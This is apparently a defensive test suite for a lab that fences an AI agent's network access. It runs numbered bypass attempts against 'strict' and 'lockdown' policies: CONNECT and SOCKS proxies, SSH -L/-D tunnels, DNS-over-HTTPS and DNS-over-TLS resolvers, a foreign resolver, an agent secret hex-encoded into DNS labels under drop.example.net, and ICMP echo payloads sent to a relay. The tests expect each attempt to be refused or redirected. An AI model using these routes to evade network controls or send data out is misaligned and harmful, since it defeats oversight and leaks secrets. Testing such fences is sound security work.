/**
 * By way of somebody else: proxies, SSH, resolvers, and what carries data without being asked for. Numbers 17 and 31
 * to 38 of docs/bypass.md, under `strict`, and under `lockdown` where nobody could look inside.
 */
import { setTimeout as sleep } from 'node:timers/promises'
import t from 'tap'
import {
  CLOUDFLARE_DNS,
  FOREIGN_RESOLVER,
  GOOGLE_DNS,
  OPENAI,
  RELAY,
  RELAY_PORTS,
  RESOLVER,
} from '../lab/addresses.ts'
import { enterLab } from '../lab/enter.ts'
import { ECH_PUBLIC_NAME } from '../lab/internet/https-record.ts'
import { collect, type Outcome } from '../lab/process.ts'
import { startSshServer } from '../lab/ssh-server.ts'
import { userNamed } from '../lab/users.ts'
import {
  answered,
  DNS_TYPE,
  datagrams,
  dnsQuestion,
  get,
  hello,
  httpsCall,
  inTurn,
  printed,
} from './bypass/attempts.ts'
import type { BypassCase } from './bypass/case.ts'
import { exchange, refusal } from './bypass/records.ts'
import { runSuites } from './bypass/suite.ts'
import { openWorld } from './bypass/world.ts'

t.setTimeout(300_000)
await enterLab(import.meta.url)
const world = await openWorld()
const { lab } = world
const ssh = await startSshServer(userNamed('agent1'))
t.teardown(async () => {
  await ssh.stop()
  await world.stop()
})

const AGENT = 4001
const { address4, address6, name } = OPENAI
const models = `https://${name}/v1/models`
const all = inTurn(world)
const refused = { result: 'refused', saw: 'nothing', counter: 'redirected' } as const

/** A forward of ssh's, one call through it, and the end of both. */
async function throughSsh(forward: readonly string[], call: string[]): Promise<Outcome[]> {
  const client = lab.spawnAs('agent1', [...ssh.argv, ...forward])
  const over = collect(client, { timeoutMs: 10_000 })
  // It listens once it is logged in, or it ends.
  await Promise.race([over, sleep(1500)])
  const outcome = await lab.run('agent1', call)
  client.kill('SIGTERM')
  return [outcome, await over]
}

/** Data in a name, as tunnels through DNS send it: 63 characters a label (RFC 1035 section 2.3.4). */
const label = (part: number) =>
  Buffer.from(`payload ${part} of an agent's secret, in hex`).toString('hex').slice(0, 63)
const SECRET = label(1)

/** SvcParamKeys (RFC 9460 section 14.3.2, RFC 9848). */
const ALPN_KEY = 1
const ECH_KEY = 5

function resolvedAt({ name, address4 }: { readonly name: string; readonly address4: string }): string[] {
  return ['--resolve', `${name}:443:${address4}`]
}

const strict: readonly BypassCase[] = [
  {
    number: 17,
    traces: 4,
    name: 'the configuration asked for and used where it is given',
    result: 'captured',
    attempt: async () => {
      await lab.ask({ type: 'https-record', name, record: 'ech' })
      const outcomes: Outcome[] = []
      for (const by of ['udp', 'tcp'] as const) {
        const server = by === 'udp' ? RESOLVER.address4 : RESOLVER.address6
        const asked = await lab.run('agent1', dnsQuestion({ server, name, type: DNS_TYPE.https, by }))
        const [answer] = printed<{ answers?: { keys: number[] }[] }>(asked)
        const hasEch = answer?.answers?.some(({ keys }) => keys.includes(ECH_KEY)) ?? false
        const call = hasEch ? hello({ address: address4, sni: ECH_PUBLIC_NAME, ech: true }) : get(models)
        outcomes.push(asked, await lab.run('agent1', call))
      }
      await lab.ask({ type: 'https-record', name, record: 'none' })
      return outcomes
    },
    client: (t, outcomes) => {
      answered(t, outcomes)
      for (const asked of [outcomes[0], outcomes[2]]) {
        t.match(
          printed(asked!),
          [{ ok: true, answers: [{ keys: [ALPN_KEY] }] }],
          'the record came, without its key',
        )
        t.notMatch(asked?.stdout, new RegExp(`\\b${ECH_KEY}\\b(?=[,\\]])`))
      }
    },
    saw: 'proxy',
    counter: 'redirected',
    records: [exchange({ uid: AGENT, provider: 'openai', status: 200 })],
  },
  {
    ...refused,
    number: 31,
    traces: 9,
    name: 'CONNECT to the provider by name, by address, and over IPv6',
    attempt: () =>
      all(
        'agent1',
        get(models, '-x', `http://${RELAY.name}:${RELAY_PORTS.connect}`),
        get(`https://${address4}/v1/models`, '-k', '-x', `http://${RELAY.address4}:${RELAY_PORTS.connect}`),
        get(models, '-x', `http://[${RELAY.address6}]:${RELAY_PORTS.connect}`),
      ),
    watch: [RELAY],
    records: [
      refusal({ uid: AGENT, rule: 'tunnel-governed-name', port: RELAY_PORTS.connect }),
      refusal({ uid: AGENT, rule: /^tunnel/, address: RELAY.address4, port: RELAY_PORTS.connect }),
      refusal({
        uid: AGENT,
        rule: 'tunnel-governed-name',
        address: RELAY.address6,
        port: RELAY_PORTS.connect,
      }),
    ],
  },
  {
    ...refused,
    number: 32,
    traces: 16,
    name: 'SOCKS4, 4a and 5 to an outside proxy, and both forwards of ssh',
    attempt: async () => [
      ...(await all(
        'agent1',
        get(models, '-x', `socks5h://${RELAY.name}:${RELAY_PORTS.socks}`),
        get(models, '-x', `socks5://${RELAY.address6.replace(/.*/, '[$&]')}:${RELAY_PORTS.socks}`),
        get(models, '-x', `socks4a://${RELAY.name}:${RELAY_PORTS.socks}`),
        get(models, '-4', '-x', `socks4://${RELAY.address4}:${RELAY_PORTS.socks}`),
      )),
      ...(await throughSsh(
        ['-L', `127.0.0.1:10443:${name}:443`],
        get(models, '-k', '--connect-to', `${name}:443:127.0.0.1:10443`),
      )),
      ...(await throughSsh(['-D', '127.0.0.1:11080'], get(models, '-x', 'socks5h://127.0.0.1:11080'))),
    ],
    watch: [RELAY],
    records: [
      refusal({ uid: AGENT, rule: /^tunnel/, port: RELAY_PORTS.socks }),
      refusal({ uid: AGENT, rule: /^tunnel/, port: RELAY_PORTS.socks, address: RELAY.address6 }),
      refusal({ uid: AGENT, rule: /^(other-protocol|silent)$/, port: RELAY_PORTS.ssh }),
    ],
  },
  {
    ...refused,
    number: 34,
    traces: 12,
    name: 'dns.google by its name, and both services by their addresses',
    attempt: () =>
      all(
        'agent1',
        get(models, '--doh-url', `https://${GOOGLE_DNS.name}/dns-query`),
        get(models, '--doh-url', `https://${GOOGLE_DNS.name}/dns-query`, ...resolvedAt(GOOGLE_DNS)),
        get(models, '--doh-url', `https://${GOOGLE_DNS.address4}/dns-query`),
        get(models, '--doh-url', `https://[${CLOUDFLARE_DNS.address6}]/dns-query`),
      ),
    watch: [GOOGLE_DNS, CLOUDFLARE_DNS],
    records: [
      refusal({ rule: 'dns-resolver', serverName: GOOGLE_DNS.name }),
      refusal({ uid: AGENT, rule: 'resolver', serverName: GOOGLE_DNS.name, port: 443 }),
      refusal({ uid: AGENT, rule: /^(resolver|no-name)$/, address: GOOGLE_DNS.address4, port: 443 }),
      refusal({ uid: AGENT, rule: /^(resolver|no-name)$/, address: CLOUDFLARE_DNS.address6, port: 443 }),
    ],
  },
  {
    ...refused,
    number: 35,
    traces: 5,
    name: 'TLS on port 853 over both families, and UDP 853',
    attempt: () =>
      all(
        'agent1',
        dnsQuestion({ server: GOOGLE_DNS.address4, name, type: DNS_TYPE.a, by: 'tls' }),
        dnsQuestion({ server: CLOUDFLARE_DNS.address6, name, type: DNS_TYPE.a, by: 'tls' }),
        datagrams([{ kind: 'udp', address: GOOGLE_DNS.address4, port: 853 }]),
      ),
    client: (t, outcomes) => {
      for (const outcome of outcomes) t.notMatch(outcome.stdout, /"(ok|sent)": true/, 'no answer')
    },
    watch: [GOOGLE_DNS, CLOUDFLARE_DNS],
    counter: 'refused_dot',
    records: [
      refusal({ uid: AGENT, rule: /^(fence-dot|resolver)$/, address: GOOGLE_DNS.address4, port: 853 }),
      refusal({ uid: AGENT, rule: /^(fence-dot|resolver)$/, address: CLOUDFLARE_DNS.address6, port: 853 }),
    ],
  },
  {
    number: 36,
    traces: 16,
    name: 'a question to a foreign resolver, which hears nothing, and a call to what was answered',
    result: 'captured',
    attempt: async () => {
      const outcomes: Outcome[] = []
      for (const by of ['udp', 'tcp'] as const) {
        for (const [server, type] of [
          [FOREIGN_RESOLVER.address4, DNS_TYPE.a],
          [FOREIGN_RESOLVER.address6, DNS_TYPE.aaaa],
        ] as const) {
          const asked = await lab.run('agent1', dnsQuestion({ server, name, type, by }))
          const [address = ''] = printed<{ answers?: string[] }>(asked)[0]?.answers ?? []
          outcomes.push(asked, await lab.run('agent1', httpsCall({ address, sni: name, host: name })))
        }
      }
      return outcomes
    },
    client: answered,
    watch: [FOREIGN_RESOLVER],
    saw: 'proxy',
    counter: 'redirected',
    records: [address4, address6].map((address) =>
      exchange({ uid: AGENT, provider: 'openai', status: 200, address }),
    ),
  },
  {
    ...refused,
    number: 37,
    name: "data in the labels of a name of the agent's own",
    attempt: () =>
      all(
        'agent1',
        ...[1, 2, 3, 4, 5, 6].map((part) =>
          dnsQuestion({
            server: RESOLVER.address4,
            name: `${label(part)}.${label(part + 10)}.${label(part + 20)}.drop.example.net`,
            type: DNS_TYPE.a,
            by: 'udp',
          }),
        ),
      ),
    secret: SECRET,
    counter: ['redirected', 'redirected_dns'],
    records: [refusal({ rule: 'dns-long-name' })],
  },
  {
    ...refused,
    number: 38,
    traces: 4,
    name: "echo requests of root's with a payload, to a provider and to a relay",
    attempt: () =>
      all(
        'root',
        datagrams(
          [address4, address6, RELAY.address4, RELAY.address6].map((address) => ({
            kind: 'icmp' as const,
            address,
            text: 'payload of an agent',
          })),
        ),
      ),
    watch: [RELAY],
    counter: 'refused_icmp',
    records: [address4, address6, RELAY.address4, RELAY.address6].map((address) =>
      refusal({ uid: 0, rule: 'fence-icmp', address }),
    ),
  },
]

const lockdown: readonly BypassCase[] = [
  {
    ...refused,
    number: 33,
    traces: 6,
    name: 'CONNECT within TLS to a proxy on 443',
    attempt: () =>
      all(
        'agent1',
        ...[RELAY.address4, `[${RELAY.address6}]`].map((address) =>
          get(
            models,
            ...['-x', `https://${RELAY.name}:${RELAY_PORTS.tls}`],
            ...['--resolve', `${RELAY.name}:${RELAY_PORTS.tls}:${address}`],
          ),
        ),
      ),
    watch: [RELAY],
    records: [RELAY.address4, RELAY.address6].map((address) =>
      refusal({ uid: AGENT, rule: 'traffic-default', serverName: RELAY.name, address }),
    ),
  },
]

runSuites(world, [
  { policy: 'strict', cases: strict },
  { policy: 'lockdown', cases: lockdown },
])
